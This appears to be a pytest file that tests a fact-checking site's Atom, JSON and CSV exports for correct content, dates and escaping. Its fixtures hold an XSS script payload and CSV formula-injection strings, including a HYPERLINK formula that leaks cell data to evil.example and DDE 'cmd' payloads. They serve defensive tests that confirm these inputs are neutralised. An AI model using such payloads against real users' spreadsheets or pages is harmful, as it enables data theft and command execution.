"""The open-data exports, read back with the parsers their users have: feedparser, json and csv."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import re
from datetime import date
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import feedparser
import pytest
import yaml

from factdesk.data.loader import load_publication
from factdesk.data.model import Claim, Publication, Settings
from factdesk.open_data import exports
from factdesk.site import pages
from factdesk.site.addresses import SiteAddress
from factdesk.site.memo import Memo

from ..conftest import MINI, REPO, copy_project

ATOM = "{http://www.w3.org/2005/Atom}"

SITE = SiteAddress("https://factcheck.example.org/")
TRICKY = 'She said "it\'s <b>done</b> & dusted", then\n</script><script>alert(1)</script>\n— naïve, 日本; ok'


@pytest.fixture(scope="module")
def publication() -> Publication:
    return load_publication(REPO)


@pytest.fixture
def tricky(tmp_path: Path) -> Publication:
    """The mini publication with markup, quotes, line breaks and a retraction in one claim."""
    project = copy_project(tmp_path / "p", MINI)
    path = project / "claims" / "budget-doubled.yml"
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    rename(project / "claimants" / "city-officials.yml", 'O\'Brien & "Sons" <Ltd>')
    data.update(claim=TRICKY, summary=TRICKY + " (summary)",
                tags=["café crème", "budgets"],
                retracted={"date": date(2024, 3, 1), "note": "Withdrawn: <wrong> & \"bad\"."})
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return load_publication(project)


def rename(record: Path, name: str) -> None:
    """A claimant's or person's record, renamed."""
    data = yaml.safe_load(record.read_text(encoding="utf-8"))
    record.write_text(yaml.safe_dump({**data, "name": name}, allow_unicode=True, sort_keys=False), encoding="utf-8")


def claim_url(claim: Claim) -> str:
    return SITE.page(pages.claim_path(claim))


def parse_feed(publication: Publication) -> Any:
    feed = feedparser.parse(exports.atom_feed(publication, SITE))
    assert not feed.bozo, feed.get("bozo_exception")
    return feed


def read_csv(publication: Publication) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(exports.claims_csv(publication, SITE), newline="")))


# Atom ---------------------------------------------------------------------------------------

def test_feed_has_one_entry_per_claim_in_order(publication: Publication) -> None:
    feed = parse_feed(publication)
    assert [e.id for e in feed.entries] == [claim_url(c) for c in publication.claims]
    assert [e.link for e in feed.entries] == [claim_url(c) for c in publication.claims]
    for entry, claim in zip(feed.entries, publication.claims, strict=True):
        assert entry.title == f"{claim.verdict.label}: {claim.claim}"
        assert date(*entry.updated_parsed[:3]) == claim.last_changed
        assert date(*entry.published_parsed[:3]) == claim.published
        assert claim.verdict.label in {t.term for t in entry.tags}


def test_feed_head_is_dated_by_the_newest_change(publication: Publication) -> None:
    feed = parse_feed(publication).feed
    assert feed.id == SITE.base
    assert feed.title == f"{publication.settings.name}: fact-checks"
    assert {(link.rel, link.href) for link in feed.links} == {("self", SITE.file(pages.ATOM_FEED)),
                                                              ("alternate", SITE.base)}
    assert date(*feed.updated_parsed[:3]) == exports.last_modified(publication)
    assert exports.last_modified(publication) == max(c.last_changed for c in publication.claims)


def test_feed_has_no_date_but_the_claims(tricky: Publication) -> None:
    """feedgen dates a feed and its entries with the current time unless told otherwise."""
    stamps = set(re.findall(r"\d{4}-\d\d-\d\dT[\d:]+[^<]*", exports.atom_feed(tricky, SITE).decode()))
    days = {d for c in tricky.claims for d in (c.published, c.last_changed)}
    assert stamps == {f"{d.isoformat()}T00:00:00+00:00" for d in days}


def test_feed_lists_corrections_and_retractions(tricky: Publication) -> None:
    entries = {e.id: e for e in parse_feed(tricky).entries}
    corrected = [c for c in tricky.claims if c.corrections]
    retracted = [c for c in tricky.claims if c.retracted]
    assert corrected and retracted
    for claim in corrected:
        assert all(c.note in entries[claim_url(claim)].content[0].value for c in claim.corrections)
    for claim in retracted:
        assert claim.retracted is not None
        content = entries[claim_url(claim)].content[0]
        assert content.type == "text/html"
        assert "Retracted" in content.value
        assert "Withdrawn: &lt;wrong&gt; &amp; &quot;bad&quot;." in content.value


def test_feed_keeps_markup_in_text_as_text(tricky: Publication) -> None:
    claim = next(c for c in tricky.claims if c.claim == TRICKY)
    entry = next(e for e in parse_feed(tricky).entries if e.id == claim_url(claim))
    assert entry.title == f"{claim.verdict.label}: {TRICKY}"
    assert {t.term for t in entry.tags} == {"café crème", "budgets", claim.verdict.label}
    # The HTML content escapes the text: no element from the claim survives into the fragment.
    assert "<script>" not in entry.content[0].value
    assert "&lt;/script&gt;&lt;script&gt;" in entry.content[0].value


def test_feed_drops_characters_xml_cannot_carry() -> None:
    # The checks refuse control characters in claim files; the feed must not break if one got by.
    mini = load_publication(MINI)
    first = dataclasses.replace(mini.claims[0], claim="bell\x07 here\x0b end")
    publication = dataclasses.replace(mini, claims=(first, *mini.claims[1:]))
    assert any(e.title.endswith(": bell here end") for e in parse_feed(publication).entries)


def test_feed_of_an_empty_publication_has_a_fixed_date(publication: Publication) -> None:
    empty = Publication(Settings(name="Desk", language="en", scale=publication.scale), (), {})
    feed = parse_feed(empty)
    assert feed.entries == []
    assert date(*feed.feed.updated_parsed[:3]) == exports.EMPTY_PUBLICATION_MODIFIED
    assert exports.atom_feed(empty, SITE) == exports.atom_feed(empty, SITE)


# JSON and CSV -------------------------------------------------------------------------------

def test_json_lists_every_claim(publication: Publication) -> None:
    data = json.loads(exports.claims_json(publication, SITE))
    assert data["publication"]["url"] == SITE.base
    assert data["publication"]["modified"] == exports.last_modified(publication).isoformat()
    assert [v["key"] for v in data["verdicts"]] == list(publication.scale.keys)
    assert [(c["slug"], c["url"], c["verdict"]["key"]) for c in data["claims"]] == \
        [(c.slug, claim_url(c), c.verdict.key) for c in publication.claims]
    for record, claim in zip(data["claims"], publication.claims, strict=True):
        assert record["updated"] == claim.last_changed.isoformat()
        assert [a["source"] for a in record["appearances"]] == [a.source for a in claim.appearances]
        assert all(a["source_url"] == SITE.page(pages.source_path(a["source"])) for a in record["appearances"])
        assert record["share_image"] == SITE.file(f"share/{claim.slug}.png")


def test_json_keeps_text_exactly(tricky: Publication) -> None:
    text = exports.claims_json(tricky, SITE)
    assert text.endswith("}\n") and "日本" in text
    record = next(c for c in json.loads(text)["claims"] if c["slug"] == "budget-doubled")
    assert (record["claim"], record["summary"]) == (TRICKY, TRICKY + " (summary)")
    assert record["retracted"] == {"date": "2024-03-01", "note": "Withdrawn: <wrong> & \"bad\"."}
    assert record["corrections"] == []


def test_csv_lists_every_claim(publication: Publication) -> None:
    rows = read_csv(publication)
    assert [(r["slug"], r["url"], r["verdict"], r["claim"]) for r in rows] == \
        [(c.slug, claim_url(c), c.verdict.key, c.claim) for c in publication.claims]
    assert list(rows[0]) == list(exports.CSV_COLUMNS)


def test_csv_round_trips_quotes_and_line_breaks(tricky: Publication) -> None:
    rows = {r["slug"]: r for r in read_csv(tricky)}
    assert len(rows) == len(tricky.claims)
    row = rows["budget-doubled"]
    assert (row["claim"], row["summary"]) == (TRICKY, TRICKY + " (summary)")
    assert row["claimant"] == 'O\'Brien & "Sons" <Ltd>'
    assert row["tags"] == "café crème; budgets"
    assert row["retracted"] == "2024-03-01"
    corrected = rows["bridge-opened-in-1990"]
    assert (corrected["corrections"], corrected["retracted"], corrected["updated"]) == ("1", "", "2024-02-03")


# Together -----------------------------------------------------------------------------------

def test_exports_are_deterministic(tricky: Publication, publication: Publication) -> None:
    for pub in (tricky, publication):
        assert exports.export_files(pub, SITE) == exports.export_files(pub, SITE)


def test_export_files_and_data_feed(publication: Publication) -> None:
    files = exports.export_files(publication, SITE)
    assert set(files) == {pages.ATOM_FEED, pages.CLAIMS_JSON, pages.CLAIMS_CSV, pages.CLAIMREVIEW_FEED}
    # A build lists the files with MkDocs by these paths before they are made, in another process.
    assert set(exports.PATHS) == set(files) == set(exports.export_files(publication, SITE, Memo()))
    assert isinstance(files[pages.ATOM_FEED], bytes)
    feed = json.loads(files[pages.CLAIMREVIEW_FEED])
    assert feed["@type"] == "DataFeed"
    assert feed["dateModified"] == exports.last_modified(publication).isoformat()
    reviews = feed["dataFeedElement"]
    assert [r["@type"] for r in reviews] == ["ClaimReview"] * len(publication.claims)
    assert [r["url"] for r in reviews] == [claim_url(c) for c in publication.claims]


# CSV formula injection (OWASP): a cell a spreadsheet would run starts with an apostrophe --------

FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "-tag"]


@pytest.fixture
def formulas(tmp_path: Path) -> Publication:
    project = copy_project(tmp_path / "p", MINI)
    path = project / "claims" / "budget-doubled.yml"
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    rename(project / "claimants" / "city-officials.yml", FORMULAS[2])
    rename(project / "people" / "test-desk.yml", FORMULAS[3])
    data.update(claim=FORMULAS[0], summary=FORMULAS[1], claim_reviewed=FORMULAS[4], tags=[FORMULAS[5], "fine"])
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return load_publication(project)


def test_csv_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(formulas: Publication) -> None:
    row = {r["slug"]: r for r in read_csv(formulas)}["budget-doubled"]
    cells = [row["claim"], row["summary"], row["claimant"], row["author"], row["claim_reviewed"], row["tags"]]
    assert cells == ["'" + FORMULAS[0], "'" + FORMULAS[1], "'" + FORMULAS[2], "'" + FORMULAS[3], "'" + FORMULAS[4],
                     "'" + FORMULAS[5] + "; fine"]
    for r in read_csv(formulas):
        for value in r.values():
            assert not value.startswith(exports.FORMULA_STARTS), value


def test_csv_escapes_only_what_starts_like_a_formula(formulas: Publication) -> None:
    assert exports._inert_cell("-2") == "-2" and exports._inert_cell("-0.5") == "-0.5"  # a rating stays a number
    assert exports._inert_cell("a=b") == "a=b" and exports._inert_cell("O'Brien") == "O'Brien"
    assert exports._inert_cell("-") == "'-" and exports._inert_cell("-1e5") == "'-1e5"
    # The loader refuses control characters in a claim; the CSV would not need it to.
    assert exports._inert_cell("\t=1+1") == "'\t=1+1" and exports._inert_cell("\r=1+1") == "'\r=1+1"
    # The other exports keep the text exactly.
    record = next(c for c in json.loads(exports.claims_json(formulas, SITE))["claims"] if c["slug"] == "budget-doubled")
    assert record["claim"] == FORMULAS[0]


# Claimants and people -----------------------------------------------------------------------

def test_json_and_csv_name_the_records_and_keep_the_older_fields(publication: Publication) -> None:
    claim = next(c for c in publication.claims if c.slug == "consul-persona-non-grata-48-hours")
    record = next(c for c in json.loads(exports.claims_json(publication, SITE))["claims"] if c["slug"] == claim.slug)
    assert [(who["id"], who["name"], who["kind"], who["url"]) for who in record["claimants"]] == [
        ("the-asahi-shimbun", "The Asahi Shimbun", "media", f"{SITE.base}claimants/the-asahi-shimbun/"),
        ("the-islamabad-telegraph", "The Islamabad Telegraph", "media", f"{SITE.base}claimants/the-islamabad-telegraph/")]
    assert record["author"] == {"id": "desk-editor", "name": "The factdesk editor", "role": "Editor",
                                "url": f"{SITE.base}people/desk-editor/"}
    # What programs read before claimants were records is still there.
    assert (record["claimant"], record["claimant_kind"]) == ("The Asahi Shimbun; The Islamabad Telegraph", "organization")
    row = {r["slug"]: r for r in read_csv(publication)}[claim.slug]
    assert list(row)[-4:] == ["claimant_ids", "citing", "author_id", "story_ids"]
    assert (row["claimant"], row["claimant_ids"], row["author"], row["author_id"]) == (
        "The Asahi Shimbun; The Islamabad Telegraph", "the-asahi-shimbun; the-islamabad-telegraph",
        "The factdesk editor", "desk-editor")
    cited = {r["slug"]: r for r in read_csv(publication)}["two-russians-trade-office-summoned"]
    assert cited["citing"] == "the Sankei Shimbun"


def test_stories_are_in_the_json_the_csv_and_the_feed(publication: Publication) -> None:
    data = json.loads(exports.claims_json(publication, SITE))
    stories = {story["id"]: story for story in data["stories"]}
    assert set(stories) == set(publication.stories)
    for story in publication.stories.values():
        exported = stories[story.id]
        assert exported["title"] == story.title and exported["url"] == f"{SITE.base}stories/{story.id}/"
        assert sorted(exported["claims"]) == sorted(story.claims)
        assert [(e["date"], e["source"]) for e in exported["events"]] == [(e.date.isoformat(), e.source)
                                                                          for e in story.events]
    rows = {r["slug"]: r for r in read_csv(publication)}
    feed = ElementTree.fromstring(exports.atom_feed(publication, SITE))
    for record in data["claims"]:
        holding = sorted(s.id for s in publication.stories.values() if record["slug"] in s.claims)
        assert sorted(s["id"] for s in record["stories"]) == holding
        assert sorted(filter(None, rows[record["slug"]]["story_ids"].split("; "))) == holding
        entry = next(e for e in feed.iter(ATOM + "entry") if e.findtext(ATOM + "id") == record["url"])
        terms = {c.get("term") for c in entry.iter(ATOM + "category") if c.get("scheme") == f"{SITE.base}stories/"}
        assert sorted(terms) == holding
    assert any(record["stories"] for record in data["claims"])
